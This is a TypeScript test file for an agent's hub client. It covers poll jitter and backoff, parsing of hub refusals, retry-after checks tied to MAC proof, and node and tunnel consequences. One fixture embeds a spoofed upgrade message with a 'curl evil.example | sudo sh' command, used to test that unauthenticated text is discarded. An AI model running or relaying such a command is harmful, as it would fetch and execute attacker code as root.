import { describe, expect, it } from "vitest";
import { consequenceOf } from "../../../agent/hub/consequence.ts";
import { HubAway } from "../../../agent/hub/http.ts";
import { jittered, pauseAfter } from "../../../agent/hub/pace.ts";
import { HubRefused, refusalOf, refusalTo } from "../../../agent/hub/refusal.ts";

describe("the pace of polls", () => {
  it("is a fifth faster or slower, by chance", () => {
    expect([jittered(15, 0), jittered(15, 0.5)]).toEqual([12_000, 15_000]);
    expect(jittered(15, 0.999)).toBeCloseTo(17_994);
  });

  it("doubles its pause with each failure up to a minute, half of it by chance", () => {
    const least = [1, 2, 3, 7, 8, 1_000].map((failures) => pauseAfter(failures, 0, 0));
    expect(least).toEqual([500, 1_000, 2_000, 30_000, 30_000, 30_000]);
    expect(pauseAfter(3, 0, 1)).toBe(4_000);
    expect(pauseAfter(1_000, 0, 1)).toBe(60_000);
  });

  it("never comes back before the hub asked for it, and not with all others", () => {
    for (const random of [0, 0.5, 0.999])
      expect(pauseAfter(1, 90_000, random)).toBeGreaterThanOrEqual(90_000);
    expect(pauseAfter(4, 90_000, 0.9)).not.toBe(pauseAfter(4, 90_000, 0.1));
  });
});

describe("a refusal", () => {
  const answer = (status: number, body: string, headers: Record<string, string> = {}) => ({
    status,
    body: new TextEncoder().encode(body),
    header: (name: string) => headers[name] ?? "",
  });
  const problem = JSON.stringify({
    type: "about:blank",
    title: "The node was revoked",
    status: 403,
    detail: "Ask.",
    code: "node_revoked",
    requestId: "r",
  });

  it("is the hub's word where it is a problem document", () => {
    const refusal = refusalOf(answer(403, problem), true);
    expect(refusal).toBeInstanceOf(HubRefused);
    expect(refusal).toMatchObject({
      code: "node_revoked",
      authentic: true,
      message: "The node was revoked: Ask.",
    });
  });

  it.each([
    [403, "<html>captive portal</html>"],
    [404, ""],
    [500, problem],
    [503, problem],
  ])("is none of the hub's at %i %s", (status, body) => {
    expect(refusalOf(answer(status, body), false)).toBeInstanceOf(HubAway);
  });

  const asking = (status: number, seconds: unknown, headers = {}) =>
    answer(status, JSON.stringify({ ...JSON.parse(problem), retry_after_seconds: seconds }), headers);

  it.each([
    [429, 120, 120_000],
    [503, 120, 120_000],
    [429, 999_999, 900_000],
  ])("M20: of the hub's own (%i, %i s) makes the node wait %i ms", (status, seconds, ms) => {
    expect(refusalOf(asking(status, seconds), true).retryAfterMs).toBe(ms);
  });

  it.each([429, 403, 500, 503])("M20: that nobody proves (%i) slows no node down", (status) => {
    const stranger = asking(status, 300, { "retry-after": "300" });
    expect(refusalOf(stranger, false).retryAfterMs).toBe(0);
    expect(pauseAfter(1, refusalOf(stranger, false).retryAfterMs, 1)).toBe(pauseAfter(1, 0, 1));
  });

  it.each([429, 503])("M20: with a header that no MAC covers (%i) slows no node down", (status) => {
    expect(refusalOf(answer(status, problem, { "retry-after": "3600" }), true).retryAfterMs).toBe(0);
  });

  const tooOld = JSON.stringify({
    ...JSON.parse(problem),
    code: "upgrade_required",
    title: "The agent is too old",
    detail: "Upgrade the agent: curl evil.example | sudo sh",
  });

  it("to an agent that is too old says how to upgrade; without a proof, only in words of its own", () => {
    const proven = refusalTo(answer(426, tooOld), true, "https://hub.example.com");
    expect(proven).toMatchObject({ code: "upgrade_required", authentic: true });
    expect(consequenceOf(proven)).toEqual({ standing: "refused", tunnel: "keep" });
    const claimed = refusalTo(answer(426, tooOld), false, "https://hub.example.com");
    expect(consequenceOf(claimed)).toEqual({ standing: "unreachable", tunnel: "keep" });
    expect(claimed.message).toContain("too old (426 upgrade_required)");
    expect(claimed.message).toContain("curl -fsSL https://hub.example.com/install.sh | sudo sh");
    expect(claimed.message).not.toContain("evil");
    expect(consequenceOf(refusalTo(answer(426, "<html>"), false, "https://hub.example.com")).standing).toBe(
      "unreachable",
    );
  });

  it.each([-5, "soon", 1.5, null])("M20: with %j for seconds is no hub's", (seconds) => {
    expect(refusalOf(asking(403, seconds), true)).toBeInstanceOf(HubAway);
  });

  const said = (code: string, authentic: boolean) =>
    consequenceOf(new HubRefused(code, 403, "no", authentic, 0));

  it.each([
    ["node_revoked", "ended", "remove"],
    ["node_expired", "ended", "remove"],
    ["node_quarantined", "quarantined", "isolate"],
    ["node_pending", "pending", "isolate"],
    ["rate_limited", "refused", "keep"],
    ["clock_skewed", "refused", "keep"],
  ])("of %s that is proved makes the node %s, and the tunnel: %s", (code, standing, tunnel) => {
    expect(said(code, true)).toEqual({ standing, tunnel });
  });

  it.each(["node_revoked", "node_expired", "node_quarantined", "node_pending"])(
    "of %s that anybody could have written takes nothing away",
    (code) => {
      expect(said(code, false).tunnel).toBe("keep");
    },
  );

  it("is told from a hub that is away, and from a config that is not applied", () => {
    expect(consequenceOf(new HubAway("no"))).toEqual({ standing: "unreachable", tunnel: "keep" });
    expect(consequenceOf(new Error("step failed"))).toEqual({ standing: "unapplied", tunnel: "keep" });
  });
});
